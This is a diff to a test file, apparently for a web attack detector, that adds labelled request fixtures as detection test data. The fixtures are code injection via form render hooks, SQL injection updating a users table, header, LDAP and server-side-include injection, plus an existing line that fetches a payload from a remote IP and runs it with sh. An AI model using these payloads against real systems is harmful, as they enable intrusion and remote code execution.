@@ -267,6 +267,15 @@ describe('attacks elsewhere in a request are seen', () => {
       { body: 'target_addr=;wget+http://1.2.3.4/a+-O+/tmp/a;sh+/tmp/a&waninf=1' },
     ],
     [
+      'code-injection',
+      '/user/register?element_parents=account/mail/%23value',
+      { body: 'form_id=user_register_form&mail%5B%23post_render%5D%5B%5D=exec&mail%5B%23markup%5D=id' },
+    ],
+    ['sql-injection', '/node', { body: 'name%5B0%20;update+users+set+name%3D%27a%27;%23%5D=x&pass=y' }],
+    ['header-injection', '/r?u=a%0d%0aSet-Cookie:%20x=1', {}],
+    ['ldap-injection', '/login?user=*)(%7C(uid=*', {}],
+    ['code-injection', '/p?x=%3C!--%23exec%20cmd=%22id%22--%3E', {}],
+    [
       'web-shell',
       '/x.php',
       {
